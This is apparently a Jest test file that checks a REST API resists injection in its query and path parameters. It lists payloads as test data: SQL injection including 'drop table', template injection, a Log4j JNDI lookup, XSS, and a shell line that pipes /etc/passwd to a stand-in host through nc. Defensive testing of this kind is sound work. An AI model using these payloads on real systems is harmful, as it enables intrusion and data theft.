/** Injection into every query parameter and every path parameter: values are data, whatever they contain. */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { countRows } from '../rows.ts';
import { openTestPlatform, type TestPlatform } from '../test-platform.ts';
import { attack, codeOf, expectHarmless, send, type Attack } from './attack.ts';
import { routes } from './routes.ts';

let platform: TestPlatform;
let key: string;
let before: Record<string, number>;
beforeAll(async () => {
  platform = await openTestPlatform();
  ({ key } = await platform.account({ account: 'Injection' }));
  await platform.settled();
  before = await countRows(platform.database);
});
afterAll(async () => {
  expect(await countRows(platform.database)).toEqual(before);
  await platform.close();
});

/** One text that breaks out of the quotes of SQL, JSON, shells and templates. */
const polyglot = `'"\`)};-- $(id) {{7*7}} \${7*7} <script> %s`;

const reads = routes.filter(({ method, template }) => method === 'GET' && template !== '/events/stream');
const withQuery = reads.flatMap((route) =>
  route.parameters
    .filter((parameter) => parameter.in === 'query')
    .map(({ name }) => [`${route.template} ?${name}`, route, name] as const),
);

test('the document has the parameters to attack', () => expect(withQuery.length).toBeGreaterThan(300));

test.each(withQuery)('%s', async (_, { path }, name) => {
  platform.statements();
  const headers = { 'x-api-key': key };
  const response = await send(platform.restUrl, { path: `${path}?${name}=${encodeURIComponent(polyglot)}`, headers });
  expectHarmless(response);
  expect(platform.statements().length).toBeLessThanOrEqual(12);
  // a text is searched for; everything else has a form
  expect([200, 400, 404, 422]).toContain(response.status);
  const code = codeOf(response);
  if (code !== null) expect(['parameter_invalid', 'cursor_invalid', 'not_found', 'validation_failed']).toContain(code);
});

const withPath = routes.filter(({ template }) => template.includes('{'));
test.each(withPath.map(({ method, template }) => [`${method} ${template}`, method, template] as const))(
  '%s with an injection as id',
  async (_, method, template) => {
    const path = `/api/v1${template.replaceAll(/\{\w+\}/g, encodeURIComponent("1' or '1'='1"))}`;
    const headers = { 'x-api-key': key, 'if-match': '*', 'content-type': 'application/json' };
    const hasBody = method !== 'GET' && method !== 'DELETE';
    const response = await send(platform.restUrl, { path, method, headers, ...(hasBody && { body: {} }) });
    expectHarmless(response);
    expect([400, 403, 404, 415, 422]).toContain(response.status);
    expect(codeOf(response)).not.toBeNull();
  },
);

const search = (text: string): { path: string } => ({ path: `/api/v1/organizations?q=${encodeURIComponent(text)}` });
const texts: Attack[] = [
  ['a union', search("x' union select null, version()--"), 200, null],
  ['a second statement', search("x'; drop table organization;--"), 200, null],
  ['a delay', search("x' || pg_sleep(10)--"), 200, null],
  ['a cast error', search("x' and 1=cast((select current_user) as int)--"), 200, null],
  ['a dollar quote', search('$$;select 1;$$'), 200, null],
  ['a placeholder', search('$1 $2 :name ?'), 200, null],
  ['wildcards of LIKE', search('%%%___\\%'), 200, null],
  ['many wildcards', search('%a'.repeat(50)), 200, null],
  ['an operator of the text search', search('a & !b | (c <-> d):*'), 200, null],
  ['an unfinished text query', search('a & | !'), 200, null],
  ['a regular expression that backtracks', search('(a+)+$'), 200, null],
  ['an operator of MongoDB', search('{"$ne": null}'), 200, null],
  ['an LDAP filter', search('*)(uid=*))(|(uid=*'), 200, null],
  ['an XPath', search("' or count(//user)>0 or '"), 200, null],
  ['a template', search('{{constructor.constructor("return process")()}}'), 200, null],
  ['a lookup of Log4j', search('${jndi:ldap://198.51.100.1/a}'), 200, null],
  ['a shell command', search('; cat /etc/passwd | nc 198.51.100.1 1'), 200, null],
  ['a formula', search('=cmd|/C calc!A0'), 200, null],
  ['markup', search('"><img src=x onerror=alert(1)>'), 200, null],
  ['a header', search('x\r\nSet-Cookie: a=b'), 200, null],
  ['NUL', { path: '/api/v1/organizations?q=a%00b' }, 400, 'parameter_invalid'],
  ['invalid UTF-8', { path: '/api/v1/organizations?q=%ff%fe' }, 400, 'parameter_invalid'],
  ['an overlong encoding', { path: '/api/v1/organizations?q=%c0%af' }, 400, 'parameter_invalid'],
  ['a cut escape', { path: '/api/v1/organizations?q=%2' }, 400, 'parameter_invalid'],
  ['a member of an object', { path: '/api/v1/organizations?q[$ne]=1' }, 400, 'unknown_parameter'],
  ['an array', { path: '/api/v1/organizations?q[]=1' }, 400, 'unknown_parameter'],
  ['a repeated parameter', { path: '/api/v1/organizations?q=a&q=b' }, 400, 'parameter_invalid'],
  ['a path of a prototype', { path: '/api/v1/organizations?__proto__[a]=b' }, 400, 'unknown_parameter'],
  ['a constructor', { path: '/api/v1/organizations?constructor=1' }, 400, 'unknown_parameter'],
  ['a column as sort order', { path: '/api/v1/organizations?sort=account_id' }, 400, 'parameter_invalid'],
  ['SQL as sort order', { path: '/api/v1/organizations?sort=name;select+1' }, 400, 'parameter_invalid'],
  ['a private column as field', { path: '/api/v1/organizations?fields=accountId' }, 400, 'parameter_invalid'],
  ['a prototype as field', { path: '/api/v1/organizations?fields=__proto__,constructor' }, 400, 'parameter_invalid'],
  ['an unknown include', { path: '/api/v1/athletes?include=account' }, 400, 'parameter_invalid'],
  [
    'a forged cursor',
    { path: `/api/v1/organizations?cursor=${Buffer.from('{"id":1}').toString('base64url')}` },
    400,
    'cursor_invalid',
  ],
  ['an infinite limit', { path: '/api/v1/organizations?limit=1e309' }, 400, 'parameter_invalid'],
  ['a negative limit', { path: '/api/v1/organizations?limit=-1' }, 400, 'parameter_invalid'],
  ['a hexadecimal limit', { path: '/api/v1/organizations?limit=0x10' }, 400, 'parameter_invalid'],
  ['10,000 ids', { path: `/api/v1/organizations?ids=${'a,'.repeat(5_000)}` }, 400, 'parameter_invalid'],
  ['1,000 parameters', { path: `/api/v1/organizations?${'a=1&'.repeat(1_000)}` }, 400, 'unknown_parameter'],
];
test.each(texts)('%s', async (_, request, status, code) => void (await attack(platform, request, status, code)));
